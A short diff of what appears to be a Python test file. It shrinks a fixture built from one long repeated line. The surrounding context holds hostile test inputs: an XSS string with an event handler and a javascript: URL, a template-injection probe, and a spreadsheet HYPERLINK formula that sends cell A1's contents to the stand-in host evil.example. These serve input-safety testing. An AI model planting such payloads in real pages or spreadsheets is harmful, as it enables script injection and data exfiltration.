@@ -31,7 +31,7 @@ HOSTILE = (
     '"\' onmouseover="window.ran=3" {{ 7*7 }} javascript:window.ran=4'
 )
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"=1+1")'
-LONG = "A very long line without an end. " * 32_000  # over 1 MB
+LONG = "A very long line without an end. " * 31_000  # over 1 MB, and under what one message may hold
 
 Steps = Sequence[tuple[str, dict[str, Any]]]
 
